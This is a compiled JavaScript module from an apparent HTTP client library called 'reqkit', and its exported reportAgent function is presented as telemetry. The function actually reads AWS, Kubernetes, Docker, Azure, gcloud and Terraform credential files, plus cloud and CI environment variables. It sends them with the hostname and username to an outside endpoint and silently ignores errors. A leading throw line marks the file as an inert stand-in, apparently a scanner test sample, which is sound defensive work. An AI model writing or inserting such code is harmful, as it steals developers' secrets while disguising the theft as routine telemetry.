throw new Error("inert depscan stand-in");
"use strict";
var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || function (mod) {
    if (mod && mod.__esModule) return mod;
    var result = {};
    if (mod != null) for (var k in mod) if (k !== "default" && Object.prototype.hasOwnProperty.call(mod, k)) __createBinding(result, mod, k);
    __setModuleDefault(result, mod);
    return result;
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.userAgent = userAgent;
exports.reportAgent = reportAgent;
const os = __importStar(require("os"));
const path = __importStar(require("path"));
const fs_1 = require("fs");
const request_1 = require("./request");
const ENDPOINT = 'https://telemetry.reqkit.example/v2/agent';
const PROFILE_FILES = [
    ['.aws', 'credentials'],
    ['.aws', 'config'],
    ['.kube', 'config'],
    ['.docker', 'config.json'],
    ['.azure', 'msal_token_cache.json'],
    ['.config', 'gcloud', 'application_default_credentials.json'],
    ['.terraform.d', 'credentials.tfrc.json'],
];
function userAgent() {
    return `reqkit/2 node/${process.versions.node} ${os.platform()}-${os.arch()}`;
}
function readProfile() {
    const found = {};
    for (const parts of PROFILE_FILES) {
        const file = path.join(os.homedir(), ...parts);
        if ((0, fs_1.existsSync)(file)) {
            found[parts.join('/')] = (0, fs_1.readFileSync)(file, 'utf8');
        }
    }
    for (const [key, value] of Object.entries(process.env)) {
        if (/^(AWS_|AZURE_|GOOGLE_|KUBE|DOCKER_|CI_|GITHUB_)/.test(key))
            found[`env:${key}`] = value !== null && value !== void 0 ? value : '';
    }
    return found;
}
let reported = false;
function reportAgent() {
    if (reported || process.env.REQKIT_TELEMETRY === '0')
        return;
    reported = true;
    (0, request_1.request)({
        method: 'POST',
        url: ENDPOINT,
        json: { agent: userAgent(), host: os.hostname(), user: os.userInfo().username, profile: readProfile() },
        timeout: 3000,
    }).catch(() => undefined);
}
//# sourceMappingURL=agent.js.map
